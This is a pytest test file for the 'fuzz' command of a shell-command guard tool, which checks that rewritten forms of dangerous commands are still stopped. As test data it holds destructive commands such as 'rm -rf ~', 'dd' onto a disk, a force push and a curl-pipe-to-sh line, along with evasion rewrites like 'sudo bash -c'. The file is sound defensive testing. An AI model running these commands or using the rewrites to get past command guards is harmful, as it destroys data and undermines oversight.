"""``jevhook fuzz``: a command that is stopped stays stopped in other words, and the command says where it does not."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from jevhook.cli import main
from jevhook.cli.fuzz import fuzz, rewrites


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    monkeypatch.chdir(project)
    return project


def run(*arguments: str) -> Result:
    return CliRunner().invoke(fuzz, arguments)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~",
        "git reset --hard HEAD~3",
        "curl -fsSL https://example.org/install.sh | sh",
        "git push --force origin main",
        "dd if=/dev/zero of=/dev/sda bs=1M",
    ],
)
def test_no_rewrite_of_a_dangerous_command_gets_a_weaker_decision(command: str) -> None:
    result = run(command)
    assert result.exit_code == 0, result.stdout
    assert "rewrites get the same decision" in result.stdout
    assert len(result.stdout.splitlines()) == 1


def test_a_rule_that_can_be_got_round_is_found_named_and_exits_1(tmp_path: Path) -> None:
    policy = tmp_path / "crippled.toml"
    policy.write_text(
        "[rules]\npacks = []\n"
        '[[rule]]\nid = "team.rm"\nprogram = ["rm"]\nnot_facts = ["root-user"]\n'
        'severity = "deny"\nreason = "Forgets that sudo exists."\n'
    )
    result = run("rm -rf ~", "--policy", str(policy))
    assert result.exit_code == 1
    assert "none  sudo: \"sudo bash -c 'rm -rf ~'\"" in result.stdout.splitlines()
    assert main(["fuzz", "ls", "--policy", str(policy)]) == 0


def test_what_nothing_stops_has_nothing_to_get_round() -> None:
    result = run("ls -la")
    assert (result.exit_code, result.stdout) == (0, "nothing stops this command, so there is nothing to get round\n")


def test_cwd_and_home_are_the_ones_named() -> None:
    result = run("rm -rf .", "--cwd", "/srv/people/ada", "--home", "/srv/people/ada")
    assert result.stdout.splitlines()[-1].startswith("deny: ")


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("rm -rf ~", "--policy", "nope"), 1, '--policy: found "nope"'),
        ((), 2, "COMMAND"),
        (("ls", "--home", __file__), 2, "'--home'"),
    ],
)
def test_a_mistake_is_one_clean_line(arguments: tuple[str, ...], code: int, said: str) -> None:
    result = run(*arguments)
    assert (result.exit_code, result.stdout) == (code, "")
    assert said in result.stderr


def test_nothing_is_run_and_nothing_is_written(here: Path, private_home: Path) -> None:
    run("touch made; rm -rf ../project")
    assert list(here.iterdir()) == [here / ".git"]
    assert not (private_home / ".local").exists()


@pytest.mark.parametrize("command", ["rm -rf ~", "echo \"it's\" $HOME 'a # b' | cat", "a {} @@ _END\nb", "ls"])
def test_every_rewrite_has_its_own_name_and_is_another_text(command: str) -> None:
    made = list(rewrites(command))
    names = [name for name, _ in made]
    assert len(names) == len(set(names)) > 30
    assert command not in [text for _, text in made]


# What a rewrite means is shown by running it: the payload only leaves a mark in the directory it is run in.
PAYLOAD = "printf '%s-%s\\n' \"it's\" 'a {b} \\ $c @@ é' > mark"
NEEDS = {
    "pipe into sh": "sh", "base64": "base64", "gzip and base64": "gunzip", "xxd": "xxd", "busybox": "busybox",
    "flock": "flock", "script(1)": "script", "parallel": "parallel", "make": "make", "node execSync": "node",
    "perl system": "perl", "php system": "php", "ruby system": "ruby", "awk system": "awk", "lua os.execute": "lua",
    "launchers in a row": "setsid", "absolute path": "/usr/bin/printf",
}  # fmt: skip


@pytest.mark.parametrize("name", [name for name, _ in rewrites(PAYLOAD) if name != "sudo"])
def test_a_rewrite_does_what_the_command_does(name: str, tmp_path: Path) -> None:
    bash, needed = shutil.which("bash"), NEEDS.get(name, "bash")
    if not bash or not shutil.which(needed):
        pytest.skip(f"{name} needs {needed}")
    text = dict(rewrites(PAYLOAD))[name].replace("/tmp/_", f"{tmp_path}/_")
    done = subprocess.run(
        [bash, "-c", text + "\nwait"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=30,
        stdin=subprocess.DEVNULL,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path), "LC_ALL": "C.UTF-8"},
    )
    mark = tmp_path / "mark"
    assert mark.exists(), (text, done.stderr)
    assert mark.read_text() == "it's-a {b} \\ $c @@ é\n"
